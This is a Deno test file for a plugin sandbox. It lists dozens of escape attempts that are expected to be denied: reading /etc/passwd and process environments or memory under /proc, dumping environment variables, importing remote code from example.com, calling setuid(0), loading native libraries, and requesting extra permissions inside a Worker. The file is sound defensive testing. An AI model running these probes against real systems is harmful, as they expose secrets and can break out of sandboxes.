/** What a plugin tries to read, reach and write: every way out that Deno has a name for, and what comes of it. */
import assert from "node:assert/strict";
import { Arena, checkerWith } from "./arena.ts";

/** Expressions; each must reject or throw. What they would return is what the plugin would have achieved. */
const attempts: readonly [name: string, expression: string][] = [
  ["/etc/passwd", `Deno.readTextFile("/etc/passwd")`],
  ["/etc/passwd by Node", `import("node:fs").then((fs) => fs.readFileSync("/etc/passwd", "utf8"))`],
  ["/etc/passwd as a text import", `import("/etc/passwd", { with: { type: "text" } } as any)`],
  [
    "/etc/passwd by a computed text import",
    `import("file://" + "/etc/" + "passwd", { with: { type: "text" } } as any)`,
  ],
  ["/etc/passwd as bytes", `import("/etc/passwd", { with: { type: "bytes" } } as any)`],
  ["/etc/passwd by require", `import("node:module").then((m) => m.createRequire(import.meta.url)("/etc/passwd"))`],
  ["/etc/passwd by fetch", `fetch("file:///etc/passwd").then((r) => r.text())`],
  ["a file outside by a relative path", `Deno.readTextFile(new URL("../canary.txt", import.meta.url))`],
  [
    "a file outside by import",
    `import(new URL("../canary.txt", import.meta.url).href, { with: { type: "text" } } as any)`,
  ],
  ["the configuration", `Deno.readTextFile(new URL("../tandem.yaml", import.meta.url))`],
  [
    "the configuration by a dynamic import",
    `import(new URL("../tandem.yaml", import.meta.url).href, { with: { type: "text" } } as any)`,
  ],
  ["the configuration by a path of its own making", `Deno.readTextFile("CONFIGURATION")`],
  ["the configuration by Node", `import("node:fs").then((fs) => fs.readFileSync("CONFIGURATION", "utf8"))`],
  ["the files of another plugin", `Deno.readTextFile(new URL("../neighbour/main.ts", import.meta.url))`],
  ["a directory outside", `Array.fromAsync(Deno.readDir(new URL("..", import.meta.url)))`],
  ["the environment", `Promise.resolve(Deno.env.toObject())`],
  [
    "the environment by Node",
    `import("node:process").then((p) => ({ path: p.default.env.PATH ?? fail(), home: p.default.env.HOME }))`,
  ],
  ["the host's name", `Promise.resolve(Deno.hostname())`],
  ["the interfaces", `Promise.resolve(Deno.networkInterfaces())`],
  ["its parent's command line", `Deno.readTextFile("/proc/" + Deno.ppid + "/cmdline")`],
  ["its parent's memory", `Deno.readFile("/proc/" + Deno.ppid + "/mem")`],
  ["its parent's environment", `Deno.readFile("/proc/" + Deno.ppid + "/environ")`],
  ["memory of another plugin", `Deno.readFile("/proc/NEIGHBOUR/mem")`],
  ["the command line of another plugin", `Deno.readTextFile("/proc/NEIGHBOUR/cmdline")`],
  ["the environment of the first process", `Deno.readTextFile("/proc/1/environ")`],
  ["who else runs", `Array.fromAsync(Deno.readDir("/proc"))`],
  ["who else runs by Node", `import("node:fs").then((fs) => fs.readdirSync("/proc"))`],
  ["its own descriptors", `Array.fromAsync(Deno.readDir("/proc/self/fd"))`],
  ["a TCP connection", `Deno.connect({ hostname: "127.0.0.1", port: PORT })`],
  [
    "a TCP connection by Node",
    `import("node:net").then((net) => new Promise((ok, no) => net.connect(PORT, "127.0.0.1", () => ok("connected")).on("error", no)))`,
  ],
  ["a TLS connection", `Deno.connectTls({ hostname: "127.0.0.1", port: PORT })`],
  ["a request", `fetch("http://127.0.0.1:PORT/")`],
  [
    "a WebSocket",
    `new Promise((ok, no) => { const w = new WebSocket("ws://127.0.0.1:PORT/"); w.onopen = ok; w.onerror = () => no(new Error("refused")); })`,
  ],
  [
    "an EventSource",
    `new Promise((ok, no) => { const w = new EventSource("http://127.0.0.1:PORT/"); w.onopen = ok; w.onerror = () => no(new Error("refused")); })`,
  ],
  [
    "a UDP socket",
    `Promise.resolve((Deno as any).listenDatagram({ hostname: "127.0.0.1", port: 0, transport: "udp" }))`,
  ],
  [
    "a UDP socket by Node",
    `import("node:dgram").then((d) => new Promise((ok, no) => { const s = d.createSocket("udp4"); s.on("error", no); s.send("x", PORT, "127.0.0.1", (e: any) => e ? no(e) : ok("sent")); }))`,
  ],
  ["a TCP listener", `Promise.resolve(Deno.listen({ port: 0 }))`],
  ["a Unix socket", `Deno.connect({ transport: "unix", path: "/run/systemd/notify" })`],
  ["a Unix listener", `Promise.resolve(Deno.listen({ transport: "unix", path: "/tmp/tandem-escape.sock" }))`],
  ["a DNS query", `Deno.resolveDns("secret.example.com", "A", { nameServer: { ipAddr: "127.0.0.1", port: PORT } })`],
  ["a look-up by Node", `import("node:dns").then((dns) => dns.promises.lookup("secret.example.com"))`],
  ["remote code", `import("http://127.0.0.1:PORT/mod.ts")`],
  ["remote code over TLS", `import("https://example.com/mod.ts")`],
  ["a package from npm", `import("npm:" + "left-pad@1.3.0")`],
  ["a package from jsr", `import("jsr:" + "@std/assert")`],
  ["a package the host uses", `import("hono")`],
  ["a file in /tmp", `Deno.writeTextFile("/tmp/tandem-escape.txt", "x")`],
  ["a file beside it", `Deno.writeTextFile(new URL("./x.txt", import.meta.url), "x")`],
  ["a temporary file", `Deno.makeTempFile()`],
  ["a link", `Deno.symlink("/etc/passwd", new URL("./link", import.meta.url).pathname)`],
  ["a database file", `import("node:sqlite").then((s) => new s.DatabaseSync("/tmp/tandem-escape.db"))`],
  ["a key-value store", `(Deno as any).openKv()`],
  ["a library", `Promise.resolve(Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } } as const))`],
  ["a native module", `import("node:process").then((p) => (p.default as any).dlopen({ exports: {} }, "/lib/x.node"))`],
  ["a processor for graphics", `(navigator as any).gpu.requestAdapter().then((a: any) => a ?? fail())`],
  ["an inspector", `import("node:inspector").then((i) => { i.open(0, "127.0.0.1"); return i.url() ?? fail(); })`],
  ["a heap snapshot", `import("node:v8").then((v) => v.writeHeapSnapshot("/tmp/tandem-escape.heap"))`],
  [
    "another uid",
    `import("node:process").then((p) => { (p.default as any).setuid(0); return p.default.getuid?.() === 0 ? "root" : fail(); })`,
  ],
  ["another directory", `Promise.resolve(Deno.chdir("/"))`],
  ["more permissions", `Deno.permissions.request({ name: "read" }).then((s) => s.state === "granted" ? s : fail())`],
  [
    "more permissions in a Worker",
    `new Promise((ok, no) => { const w = new Worker("data:application/javascript,postMessage(Deno.readTextFileSync('/etc/passwd'))", { type: "module", deno: { permissions: { read: true } } } as any); w.onmessage = ok; w.onerror = (e) => { e.preventDefault(); no(new Error(e.message)); }; })`,
  ],
];

/** These succeed where the plugin has memory of its own mounted: nobody else sees it, it is small, and it goes with it. */
const inOwnMemory: readonly [name: string, expression: string][] = [
  ["Deno's cache", `caches.open("x").then((c) => c.put("http://x/", new Response("y")))`],
  ["local storage", `Promise.resolve(localStorage.setItem("a", "b"))`],
  [
    "local storage without end",
    `(async () => { for (let i = 0; ; i++) localStorage.setItem("k" + i, "x".repeat(1e5)); })()`,
  ],
];

const source = (places: Readonly<Record<string, string>>) =>
  checkerWith(
    `const achieved: Record<string, string> = {};
    const attempts: [string, () => unknown][] = [
      ${
      attempts.map(([name, code]) =>
        `[${JSON.stringify(name)}, () => ${
          code.replaceAll(/\b(PORT|NEIGHBOUR|CONFIGURATION)\b/g, (word) => places[word])
        }],`
      ).join(
        "\n",
      )
    }
    ];
    const [name, attempt] = attempts[Number(target.server)];
    try {
      const value = await attempt();
      return { state: "up", reason: "ACHIEVED " + name + ": " + Deno.inspect(value).slice(0, 100) };
    } catch (error: any) {
      return { state: "up", reason: "denied: " + String(error.message).slice(0, 150) };
    }`,
    `const fail = (): never => { throw new Error("nothing there"); };`,
  );

Deno.test("a plugin cannot read, reach or write anything", async (t) => {
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let contacts = 0;
  const accepting = (async () => {
    for await (const connection of listener) {
      contacts++;
      connection.close();
    }
  })().catch(() => {});
  await using arena = new Arena();
  Deno.writeTextFileSync(`${arena.directory}/canary.txt`, "canary");
  Deno.chmodSync(`${arena.directory}/canary.txt`, 0o644);
  Deno.writeTextFileSync(`${arena.directory}/tandem.yaml`, "version: 1\n");
  const neighbour = await arena.plugin("neighbour", checkerWith(""));
  await neighbour.sandbox.start();
  const plugin = await arena.plugin(
    "escape",
    source({
      PORT: String(listener.addr.port),
      NEIGHBOUR: String(neighbour.sandbox.status().pid),
      CONFIGURATION: `${arena.directory}/tandem.yaml`,
    }),
  );
  for (const [index, [name]] of attempts.entries()) {
    await t.step(name, async () => {
      let reason: string;
      try {
        reason = (await plugin.check(String(index), 5000)).reason;
      } catch (error) {
        // An attempt that ends its own process has achieved no more.
        reason = `denied: ${(error as Error).message}`;
        await plugin.reached("backing off");
        while (plugin.sandbox.status().state !== "running") await new Promise((resolve) => setTimeout(resolve, 50));
      }
      assert.match(reason, /^denied: /);
    });
  }
  for (const [index, [name]] of inOwnMemory.entries()) {
    await t.step(name, async () => {
      await plugin.check(String(attempts.length + index), 5000).catch(() => {});
      assert.deepEqual([...Deno.readDirSync(`${arena.directory}/escape`)].map((file) => file.name), ["main.ts"]);
    });
  }
  assert.equal(contacts, 0, "Something reached the listener");
  listener.close();
  await accepting;
});

const entries: readonly [name: string, source: string, reason: RegExp][] = [
  [
    "a text import of /etc/passwd",
    `import text from "/etc/passwd" with { type: "text" }; export default { kind: "checker", text };`,
    /etc\/passwd/,
  ],
  [
    "a text import of the configuration",
    `import text from "../tandem.yaml" with { type: "text" }; export default { kind: "checker", text };`,
    /tandem\.yaml/,
  ],
  [
    "the configuration as a module",
    `import * as all from "../tandem.yaml"; export default { kind: "checker", all };`,
    /tandem\.yaml/,
  ],
  [
    "a module outside of its directory",
    `import "../neighbour/main.ts"; export default { kind: "checker" };`,
    /neighbour\/main\.ts/,
  ],
  ["remote code", `import "https://example.com/mod.ts"; export default { kind: "checker" };`, /example\.com/],
  ["a package", `import "npm:left-pad@1.3.0"; export default { kind: "checker" };`, /left-pad|npm/],
  ["no plugin", `export default 42;`, /must export a plugin by default/],
  [
    "another kind of plugin",
    `export default { kind: "notifier" };`,
    /exports a notifier, but plugin\.yaml says kind: checker/,
  ],
  ["an error while loading", `throw new Error("not today");`, /not today \(at main\.ts:1:7\)|not today/],
  ["a mistake in its syntax", `export default {{`, /main\.ts/],
  ["a top level that never ends", `await new Promise(() => {});`, /not ready within|ended by itself/],
];

Deno.test("a plugin that cannot be loaded is told why, and is not tried again", async (t) => {
  await using arena = new Arena();
  Deno.writeTextFileSync(`${arena.directory}/tandem.yaml`, "version: 1\n");
  await arena.plugin("neighbour", checkerWith(""));
  await Promise.all(entries.map(([name, text, reason], index) =>
    t.step({
      name,
      async fn() {
        const plugin = await arena.plugin(`load-${index}`, { "main.ts": text });
        await assert.rejects(plugin.sandbox.start(), reason);
        const { state } = plugin.sandbox.status();
        assert.ok(state === "quarantined" || state === "backing off", state);
      },
      sanitizeOps: false,
      sanitizeResources: false,
      sanitizeExit: false,
    })
  ));
});
